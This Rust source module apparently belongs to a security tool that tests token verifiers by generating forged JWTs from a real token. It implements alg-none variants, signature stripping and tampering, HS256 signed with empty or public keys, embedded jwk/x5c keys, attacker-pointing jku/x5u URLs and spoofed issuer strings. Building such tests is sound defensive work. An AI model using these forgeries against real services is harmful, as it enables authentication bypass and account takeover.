//! The ways to forge. Each has a name that the record and the findings use.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{Map, Value, json};

use super::der;
use super::key::{OwnKey, signed};

/// A claim `exp` is moved by this much, seconds.
const LATER: f64 = 3600.0;

/// A token that nobody should take.
pub struct Crafted {
    /// How it was made.
    pub how: String,
    /// The token.
    pub token: String,
}

/// What there is to forge from.
pub struct Material<'a> {
    /// A real token.
    pub token: &'a str,
    /// Its header; of an opaque token what a JWT of its issuer could say.
    pub header: &'a Map<String, Value>,
    /// Its claims, as it says or as introspection told.
    pub claims: &'a Map<String, Value>,
    /// True where the token itself is a JWT.
    pub is_jwt: bool,
    /// Public keys of its issuer that may have signed it, as JWKs.
    pub public: &'a [Value],
    /// A key that nobody trusts.
    pub own: &'a OwnKey,
    /// Where that key is published.
    pub address: &'a str,
}

/// Everything that somebody without a trusted key can make of a token.
pub fn by_a_stranger(from: &Material) -> Vec<Crafted> {
    let mut all = Vec::new();
    let readable = !from.claims.is_empty();
    let mut add = |how: &str, token: Option<String>| {
        let differs = token.filter(|t| t != from.token);
        all.extend(differs.map(|token| Crafted { how: how.to_owned(), token }));
    };
    if from.is_jwt {
        add("signature-stripped", with_signature(from.token, |_| Vec::new()));
        add("signature-altered", with_signature(from.token, altered));
        add("signature-zeroed", with_signature(from.token, |s| vec![0; s.len()]));
        add("claims-altered", with_later_expiry(from));
    } else {
        add("token-altered", other_character(from.token));
    }
    if !readable {
        return all;
    }
    for (how, alg) in
        [("alg-none", "none"), ("alg-none-in-capitals", "NONE"), ("alg-none-mixed", "nOnE")]
    {
        let body = unsigned(&header_with(from, &[("alg", alg.into())]), from.claims);
        add(how, body.map(|b| b + "."));
    }
    let empty = EncodingKey::from_secret(b"");
    let hs256 = header_with(from, &[("alg", "HS256".into())]);
    add("hs256-with-empty-key", signed(&hs256, from.claims, &empty, Algorithm::HS256));
    for jwk in from.public {
        for (how, key) in spelled(jwk) {
            let key = EncodingKey::from_secret(&key);
            add(how, signed(&hs256, from.claims, &key, Algorithm::HS256));
        }
    }
    let own = |extra: &[(&str, Value)]| from.own.sign(&header_with(from, extra), from.claims);
    add("foreign-key", own(&[]));
    add("foreign-key-unnamed", from.own.sign(&header_without(from, "kid"), from.claims));
    let kid = from.header.get("kid").and_then(Value::as_str).unwrap_or("recant");
    add("embedded-jwk", own(&[("jwk", from.own.published_as(kid))]));
    add("embedded-x5c", from.own.chain().and_then(|chain| own(&[("x5c", chain)])));
    let at = |path: &str| Value::from(format!("{}/{path}", from.address));
    add("named-jku", own(&[("jku", at("jwks"))]));
    add("named-x5u", own(&[("x5u", at("certificate"))]));
    for (how, issuer) in issuers(from) {
        let mut claims = from.claims.clone();
        claims.insert("iss".into(), issuer);
        add(how, from.own.sign(&header_with(from, &[]), &claims));
    }
    all
}

/// Issuers that nobody trusts, and that lead to the forger's keys where somebody looks for keys at whatever issuer a token names:
/// one that is simply another, and ones that a comparison by part takes for the token's own.
fn issuers(from: &Material) -> Vec<(&'static str, Value)> {
    let elsewhere = from.address;
    let mut all = vec![("issuer-unknown", Value::from(elsewhere))];
    if let Some(issuer) = from.claims.get("iss").and_then(Value::as_str) {
        let host = elsewhere.split_once("://").map_or(elsewhere, |(_, host)| host);
        let plain = issuer.trim_end_matches('/');
        all.extend([
            ("issuer-as-beginning", Value::from(format!("{plain}@{host}"))),
            ("issuer-as-end", Value::from(format!("{elsewhere}/{issuer}"))),
            ("issuer-as-part", Value::from(format!("{elsewhere}/{plain}/elsewhere"))),
            ("issuer-among-others", json!([issuer, elsewhere])),
            (
                "issuer-shortened",
                Value::from(plain.get(..plain.len().saturating_sub(1)).unwrap_or_default()),
            ),
        ]);
    }
    all
}

/// Header and claims as they are signed (RFC 7515 section 5.1).
pub fn unsigned(header: &Map<String, Value>, claims: &Map<String, Value>) -> Option<String> {
    let part = |object| Some(URL_SAFE_NO_PAD.encode(serde_json::to_vec(object).ok()?));
    Some(format!("{}.{}", part(header)?, part(claims)?))
}

/// The header with some members replaced or added.
fn header_with(from: &Material, members: &[(&str, Value)]) -> Map<String, Value> {
    let mut header = from.header.clone();
    header.extend(members.iter().map(|(name, value)| ((*name).to_owned(), value.clone())));
    header
}

fn header_without(from: &Material, member: &str) -> Map<String, Value> {
    let mut header = from.header.clone();
    header.remove(member);
    header
}

/// The ways in which verifiers hold a public key, each of which has been taken for a secret: PEM with and without the last
/// line end, DER, and the bare numbers.
fn spelled(jwk: &Value) -> Vec<(&'static str, Vec<u8>)> {
    let (Some(der), Some(bare)) = (der::public_key(jwk), der::bare(jwk)) else { return Vec::new() };
    let pem = der::pem("PUBLIC KEY", &der);
    let mut all = vec![
        ("hs256-with-public-key-pem", pem.as_bytes().to_vec()),
        ("hs256-with-public-key-pem-trimmed", pem.trim_end().as_bytes().to_vec()),
        ("hs256-with-public-key-der", der),
    ];
    if jwk.get("kty").is_some_and(|kty| kty == "RSA") {
        let pem = der::pem("RSA PUBLIC KEY", &bare);
        all.push(("hs256-with-public-key-pkcs1-pem", pem.into_bytes()));
    }
    all.push(("hs256-with-public-key-bare", bare));
    if let Ok(json) = serde_json::to_vec(jwk) {
        all.push(("hs256-with-public-key-jwk", json));
    }
    all
}

fn with_signature(token: &str, change: impl Fn(Vec<u8>) -> Vec<u8>) -> Option<String> {
    let (body, signature) = token.rsplit_once('.')?;
    let signature = URL_SAFE_NO_PAD.decode(signature.trim_end_matches('=')).ok()?;
    Some(format!("{body}.{}", URL_SAFE_NO_PAD.encode(change(signature))))
}

fn altered(mut signature: Vec<u8>) -> Vec<u8> {
    let middle = signature.len() / 2;
    if let Some(byte) = signature.get_mut(middle) {
        *byte ^= 0x01;
    }
    signature
}

/// Other claims under the old signature: the token would live for longer.
fn with_later_expiry(from: &Material) -> Option<String> {
    let mut claims = from.claims.clone();
    match claims.get("exp").and_then(Value::as_f64) {
        Some(exp) => claims.insert("exp".into(), json!((exp + LATER).round() as i64)),
        None => claims.insert("recant".into(), "altered".into()),
    };
    let mut parts = from.token.split('.');
    let (header, signature) = (parts.next()?, parts.nth(1)?);
    let claims = URL_SAFE_NO_PAD.encode(serde_json::to_vec(&claims).ok()?);
    Some(format!("{header}.{claims}.{signature}"))
}

/// The same text with another letter or digit in the middle of its last half, where no prefix is looked for.
fn other_character(token: &str) -> Option<String> {
    let at = token.len() - token.len() / 4;
    let (at, old) =
        token.char_indices().skip(at.saturating_sub(1)).find(|(_, c)| c.is_ascii_alphanumeric())?;
    let new = if old == '0' { '1' } else { '0' };
    let mut other = token.to_owned();
    other.replace_range(at..at + old.len_utf8(), &new.to_string());
    Some(other)
}
